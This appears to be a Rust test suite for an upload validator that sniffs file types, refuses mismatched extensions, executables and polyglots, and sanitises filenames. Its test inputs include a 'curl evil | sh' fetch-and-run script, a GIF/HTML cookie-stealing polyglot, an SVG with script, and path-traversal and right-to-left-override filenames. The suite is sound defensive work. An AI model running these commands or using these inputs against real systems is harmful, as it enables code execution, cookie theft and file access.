#![allow(clippy::unwrap_used)]

use super::*;

fn png() -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0".to_vec();
    v.extend_from_slice(&[0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, b'I', b'E', b'N', b'D']);
    v
}
fn jpeg() -> Vec<u8> {
    b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xFF\xDB".to_vec()
}
fn gif_html_polyglot() -> Vec<u8> {
    b"GIF89a\x01\x00\x01\x00<html><script>alert(document.cookie)</script></html>".to_vec()
}
fn webp() -> Vec<u8> {
    b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00".to_vec()
}
fn pdf() -> Vec<u8> {
    b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n".to_vec()
}
/// A zip whose first entry is `name` (a local file header is 30 bytes, the name follows).
fn zip_with_first_entry(name: &str) -> Vec<u8> {
    let mut v = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
    v.extend_from_slice(&[0u8; 16]);
    v.extend_from_slice(&(name.len() as u16).to_le_bytes());
    v.extend_from_slice(&[0, 0]);
    v.extend_from_slice(name.as_bytes());
    v.extend_from_slice(b"\x03\x00compressed");
    v
}
fn zip() -> Vec<u8> {
    zip_with_first_entry("hello.txt")
}
fn docx() -> Vec<u8> {
    zip_with_first_entry("word/document.xml")
}
fn pe_executable() -> Vec<u8> {
    let mut v = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF\x00\x00\xB8\x00".to_vec();
    v.extend_from_slice(&[0u8; 40]);
    v.extend_from_slice(b"\x80\x00\x00\x00This program cannot be run in DOS mode.\r\r\n$");
    v
}
fn elf_executable() -> Vec<u8> {
    let mut v = b"\x7FELF\x02\x01\x01\x00".to_vec();
    v.extend_from_slice(&[0u8; 8]);
    v.extend_from_slice(b"\x02\x00\x3E\x00\x01\x00\x00\x00");
    v.extend_from_slice(&[0u8; 48]);
    v
}

fn ok(name: &str, head: &[u8]) -> Sniffed {
    classify(name, head, &AllowList::default()).unwrap_or_else(|r| panic!("{name} refused: {r}"))
}
fn refused(name: &str, head: &[u8]) -> Refusal {
    match classify(name, head, &AllowList::default()) {
        Err(refusal) => refusal,
        Ok(s) => panic!("{name} accepted as {s:?}"),
    }
}

#[test]
fn images_documents_and_archives_with_their_own_extensions_are_accepted() {
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("photo.png", png(), "image/png"),
        ("PHOTO.PNG", png(), "image/png"),
        ("photo.jpg", jpeg(), "image/jpeg"),
        ("photo.jpeg", jpeg(), "image/jpeg"),
        (
            "anim.gif",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00".to_vec(),
            "image/gif",
        ),
        ("pic.webp", webp(), "image/webp"),
        ("paper.pdf", pdf(), "application/pdf"),
        ("bundle.zip", zip(), "application/zip"),
        (
            "letter.docx",
            docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ];
    for (name, head, content_type) in cases {
        let sniffed = ok(name, &head);
        assert_eq!(sniffed.content_type, content_type, "{name}");
        assert!(sniffed.extension_ok, "{name}");
        assert!(!sniffed.is_text(), "{name}");
    }
}

#[test]
fn office_files_and_zips_are_told_apart_by_name_only_within_the_zip_family() {
    // infer could not see inside: a zip named .xlsx is taken as the spreadsheet it claims.
    let x = ok("numbers.xlsx", &zip());
    assert_eq!(
        x.content_type,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(x.extension_ok);
    // A Word document named .zip is still a Word document.
    let d = ok("letter.zip", &docx());
    assert_eq!(
        d.content_type,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    );
    // But no zip passes as a PDF, and no Word document as a spreadsheet's sibling PDF.
    assert!(
        refused("letter.pdf", &docx())
            .message
            .contains("Word document")
    );
    let r = refused("paper.pdf", &zip());
    assert!(
        r.message.contains(".pdf") && r.message.contains("zip archive"),
        "{r}"
    );
    assert_eq!(r.detected, "application/zip");
    assert!(
        refused("bundle.zip", &pdf())
            .message
            .contains("PDF document")
    );
}

#[test]
fn an_extension_that_claims_another_format_is_refused_naming_what_was_found() {
    let r = refused("cat.png", &jpeg());
    assert_eq!(
        r.to_string(),
        "The file is named .png but its content is a JPEG image (image/jpeg)."
    );
    assert!(refused("cat.jpg", &png()).message.contains("PNG image"));
    assert!(refused("cat.webp", &png()).message.contains("PNG image"));
    assert!(refused("notes.txt", &png()).message.contains(".txt"));
    assert!(refused("data.csv", &pdf()).message.contains("PDF document"));
    assert!(refused("data.json", &zip()).message.contains("zip archive"));
}

#[test]
fn polyglots_with_an_image_header_are_refused_unless_named_as_that_image() {
    // A GIF header followed by HTML/script, named .png or .html: refused.
    let r = refused("innocent.png", &gif_html_polyglot());
    assert!(r.message.contains("GIF image"), "{r}");
    assert!(
        refused("page.html", &gif_html_polyglot())
            .message
            .contains("GIF image")
    );
    assert!(
        refused("page.js", &gif_html_polyglot())
            .message
            .contains("GIF image")
    );
    // Named .gif it is a GIF: served as image/gif with nosniff, a browser never runs it.
    assert_eq!(
        ok("innocent.gif", &gif_html_polyglot()).content_type,
        "image/gif"
    );
    // A PDF header before a zip (a PDF/zip polyglot) is a PDF, and only a PDF.
    let mut pdf_zip = pdf();
    pdf_zip.extend_from_slice(&zip());
    assert_eq!(ok("doc.pdf", &pdf_zip).content_type, "application/pdf");
    assert!(refused("doc.zip", &pdf_zip).message.contains("PDF"));
}

#[test]
fn executables_are_refused_whatever_their_name() {
    for name in [
        "setup.exe",
        "photo.png",
        "readme.txt",
        "invoice.pdf",
        "noext",
    ] {
        let r = refused(name, &pe_executable());
        assert!(r.message.contains("Windows executable"), "{name}: {r}");
        assert_eq!(r.detected, "application/vnd.microsoft.portable-executable");
    }
    for name in ["tool", "notes.txt", "photo.jpg", "a.elf"] {
        let r = refused(name, &elf_executable());
        assert!(r.message.contains("Linux executable"), "{name}: {r}");
        assert!(r.message.contains("cannot be uploaded"), "{name}: {r}");
    }
}

#[test]
fn scripts_and_text_under_a_binary_name_are_refused() {
    let r = refused("selfie.jpg", b"#!/bin/sh\ncurl evil | sh\n");
    assert_eq!(
        r.to_string(),
        "The file is named .jpg but its content is text, not a JPEG image."
    );
    assert!(
        refused("photo.png", b"<html><script>alert(1)</script></html>")
            .message
            .contains("text")
    );
    assert!(
        refused("report.pdf", b"just words")
            .message
            .contains("PDF document")
    );
    assert!(
        refused("archive.zip", b"{\"a\": 1}")
            .message
            .contains("zip archive")
    );
}

#[test]
fn text_files_get_their_type_from_the_extension() {
    let cases = [
        ("notes.txt", "text/plain", true),
        ("README.md", "text/markdown", true),
        ("table.csv", "text/csv", true),
        ("table.tsv", "text/tab-separated-values", true),
        ("data.json", "application/json", true),
        ("main.py", "text/x-python", true),
        ("app.js", "text/javascript", true),
        ("app.ts", "text/x-typescript", true),
        ("index.html", "text/html", true),
        ("site.css", "text/css", true),
        ("feed.xml", "application/xml", true),
        ("ci.yaml", "application/yaml", true),
        ("Cargo.toml", "application/toml", true),
        ("server.log", "text/plain", true),
        ("lib.rs", "text/plain", true),
        ("Makefile", "text/plain", false),
        ("notes.weird", "text/plain", false),
    ];
    for (name, content_type, extension_ok) in cases {
        let sniffed = ok(name, b"line one\nline two\n");
        assert_eq!(sniffed.content_type, content_type, "{name}");
        assert_eq!(sniffed.extension_ok, extension_ok, "{name}");
        assert!(sniffed.is_text(), "{name}");
        assert!(!may_render_inline(&sniffed.content_type), "{name}");
    }
}

#[test]
fn text_that_starts_like_a_weak_signature_stays_text() {
    // "MZ" and "BM" are two-byte signatures; real executables and bitmaps contain NULs.
    assert_eq!(
        ok("notes.txt", b"MZ is where DOS executables begin.\n").content_type,
        "text/plain"
    );
    assert_eq!(
        ok("memo.md", b"BM: board meeting notes\n").content_type,
        "text/markdown"
    );
    // infer's text matchers (HTML, XML, shebang) defer to the extension.
    assert_eq!(
        ok("run.py", b"#!/usr/bin/env python3\nprint('hi')\n").content_type,
        "text/x-python"
    );
    assert_eq!(
        ok("page.html", b"<!DOCTYPE html><html><body>hi</body></html>").content_type,
        "text/html"
    );
    assert_eq!(
        ok("page.txt", b"<html><body>hi</body></html>").content_type,
        "text/plain"
    );
    assert_eq!(
        ok("feed.xml", b"<?xml version=\"1.0\"?><rss/>").content_type,
        "application/xml"
    );
    assert_eq!(
        ok(
            "key.txt",
            b"-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----\n"
        )
        .content_type,
        "text/plain"
    );
}

#[test]
fn utf8_cut_at_the_head_boundary_is_text_but_broken_utf8_is_not() {
    // 'é' is two bytes: an odd-length prefix makes the head end in the middle of one.
    let mut head = b"x".to_vec();
    while head.len() < HEAD_LEN {
        head.extend_from_slice("é".as_bytes());
    }
    head.truncate(HEAD_LEN);
    assert_eq!(head.last(), Some(&0xC3));
    assert_eq!(ok("long.txt", &head).content_type, "text/plain");
    // A short file (the whole file is the head) may not end mid-character.
    assert!(refused("short.txt", &head[..102]).message.contains("UTF-8"));
    // An invalid sequence inside the head is never text.
    let mut broken = head.clone();
    broken[10] = b'a';
    broken[11] = 0xC3;
    broken[12] = b'b';
    assert!(
        refused("long.txt", &broken)
            .message
            .contains("not recognised")
    );
    // A three-byte character cut after two bytes at the boundary is fine too.
    let mut head3 = vec![b'a'; HEAD_LEN - 2];
    head3.extend_from_slice(&"€".as_bytes()[..2]);
    assert_eq!(ok("euro.txt", &head3).content_type, "text/plain");
}

#[test]
fn a_utf8_bom_is_text_but_utf16_and_latin1_are_refused() {
    assert_eq!(
        ok("people.csv", b"\xEF\xBB\xBFname,age\nAda,36\n").content_type,
        "text/csv"
    );
    let utf16 = b"\xFF\xFEh\x00i\x00\n\x00";
    assert!(refused("hi.txt", utf16).message.contains("UTF-8"));
    // Latin-1 "café crème": decided to refuse (downloads and the agent's tools assume UTF-8).
    let latin1 = b"caf\xE9 cr\xE8me\n";
    let r = refused("menu.txt", latin1);
    assert!(
        r.message
            .contains("neither an accepted format nor UTF-8 text"),
        "{r}"
    );
    assert_eq!(r.detected, "application/octet-stream");
}

#[test]
fn text_with_nul_bytes_or_unknown_binary_is_refused() {
    assert!(
        refused("notes.txt", b"abc\x00def")
            .message
            .contains("not recognised")
    );
    assert!(
        refused("blob.bin", &[0x00, 0x9F, 0x92, 0x96, 0x01, 0x02])
            .message
            .contains("not recognised")
    );
    let r = refused("photo.png", &[0x00, 0x9F, 0x92, 0x96, 0x01, 0x02]);
    assert_eq!(
        r.to_string(),
        "The file is named .png but its content is not a PNG image."
    );
}

#[test]
fn empty_files_are_text_unless_named_as_a_binary_format() {
    let r = refused("empty.png", b"");
    assert_eq!(
        r.to_string(),
        "The file is empty, but a .png file cannot be."
    );
    assert!(refused("empty.pdf", b"").message.contains(".pdf"));
    assert_eq!(ok("empty.txt", b"").content_type, "text/plain");
    assert_eq!(ok("empty", b"").content_type, "text/plain");
}

#[test]
fn a_missing_or_unknown_extension_is_accepted_but_flagged() {
    let s = ok("photo", &png());
    assert_eq!(
        (s.content_type.as_str(), s.extension_ok),
        ("image/png", false)
    );
    let s = ok("photo.dat", &png());
    assert_eq!(
        (s.content_type.as_str(), s.extension_ok),
        ("image/png", false)
    );
    assert_eq!(preferred_extension("image/png"), Some("png"));
    assert_eq!(preferred_extension("image/jpeg"), Some("jpg"));
    assert_eq!(preferred_extension("text/markdown"), Some("md"));
    assert_eq!(preferred_extension("application/x-nothing"), None);
}

#[test]
fn the_allow_list_decides_which_types_pass() {
    let only_pdf = AllowList::new([" Application/PDF "]);
    assert!(classify("a.pdf", &pdf(), &only_pdf).is_ok());
    let r = classify("a.png", &png(), &only_pdf).unwrap_err();
    assert_eq!(
        r.to_string(),
        "This file is a PNG image (image/png), which cannot be uploaded here."
    );
    let r = classify("a.txt", b"hello", &only_pdf).unwrap_err();
    assert_eq!(
        r.to_string(),
        "This file is text (text/plain), which cannot be uploaded here."
    );
    // SVG is text that can carry script: not in the default list.
    let r = refused(
        "logo.svg",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>",
    );
    assert!(r.message.contains("SVG image (image/svg+xml)"), "{r}");
    // Formats the default list leaves out.
    assert!(
        refused("a.tar.gz", b"\x1F\x8B\x08\x00\x00\x00\x00\x00\x00\x03")
            .message
            .contains("gzip archive")
    );
    let default = AllowList::default();
    assert!(default.contains("image/png") && default.contains("text/markdown"));
    assert!(!default.contains("image/svg+xml") && !default.contains("application/octet-stream"));
    assert!(AllowList::any().contains("application/x-executable"));
}

#[test]
fn only_raster_images_may_render_inline() {
    assert!(may_render_inline("image/png") && may_render_inline("image/webp"));
    for ct in [
        "image/svg+xml",
        "text/html",
        "text/plain",
        "application/pdf",
        "application/json",
    ] {
        assert!(!may_render_inline(ct), "{ct}");
    }
    assert!(
        is_text_type("image/svg+xml")
            && is_text_type("application/json")
            && !is_text_type("image/png")
    );
}

#[test]
fn agent_files_are_labelled_leniently() {
    assert_eq!(guess_type("chart.png", &png()), "image/png");
    assert_eq!(
        guess_type("tool", &elf_executable()),
        "application/x-executable"
    );
    assert_eq!(guess_type("report.md", b"# Report"), "text/markdown");
    assert_eq!(
        guess_type("legacy.txt", b"caf\xE9"),
        "application/octet-stream"
    );
    assert_eq!(
        guess_type("fake.jpg", b"#!/bin/sh"),
        "application/octet-stream"
    );
}

#[test]
fn hostile_names_are_reduced_to_one_safe_component() {
    let cases = [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\cmd.exe", "cmd.exe"),
        ("C:\\Users\\ada\\report.pdf", "report.pdf"),
        ("dir/", "dir"),
        ("a\u{0}b.txt", "ab.txt"),
        ("line\nbreak\r.txt", "linebreak.txt"),
        ("..png", "png"),
        (".htaccess", "htaccess"),
        ("...", "file"),
        ("", "file"),
        ("/", "file"),
        ("\u{202E}", "file"),
        ("evil\u{202E}gpj.exe", "evilgpj.exe"),
        ("a\u{200B}b\u{2066}c\u{FEFF}.md", "abc.md"),
        (
            "  many   spaces\t and\u{00A0}tabs .txt ",
            "many spaces and tabs .txt",
        ),
        ("trailing dots... ", "trailing dots"),
        ("a<b>:c\"d|e?f*g.txt", "a_b__c_d_e_f_g.txt"),
        ("CON", "_CON"),
        ("con.txt", "_con.txt"),
        ("Lpt1.log", "_Lpt1.log"),
        ("console.txt", "console.txt"),
        ("📄 notes.md", "📄 notes.md"),
        ("Résumé final.docx", "Résumé final.docx"),
    ];
    for (input, expected) in cases {
        assert_eq!(sanitize_filename(input), expected, "{input:?}");
    }
}

#[test]
fn long_names_are_cut_at_a_character_boundary_keeping_the_extension() {
    let long = format!("{}.txt", "é".repeat(250));
    let out = sanitize_filename(&long);
    assert!(out.len() <= 200, "{}", out.len());
    assert!(out.ends_with(".txt") && out.starts_with('é'));
    assert_eq!(out.len(), 200, "98 two-byte chars then .txt");

    let cjk = "日".repeat(500);
    let out = sanitize_filename(&cjk);
    assert!(out.len() <= 200 && out.chars().all(|c| c == '日'));
    assert_eq!(out.len(), 198);

    // An "extension" too long to be one is not preserved specially.
    let odd = format!("{}.{}", "a".repeat(300), "b".repeat(50));
    let out = sanitize_filename(&odd);
    assert_eq!(out, "a".repeat(200));

    let exact = format!("{}.pdf", "x".repeat(196));
    assert_eq!(sanitize_filename(&exact), exact);
}

#[test]
fn a_text_opening_over_binary_content_is_not_text() {
    // A shebang or an HTML tag first does not make NUL-laden bytes a script or a page.
    assert!(
        refused("run.sh", b"#!/bin/sh\n\x00\x01\x02binary")
            .message
            .contains("not recognised")
    );
    assert!(
        refused("page.html", b"<html>\x00\x00\x00")
            .message
            .contains("not recognised")
    );
}
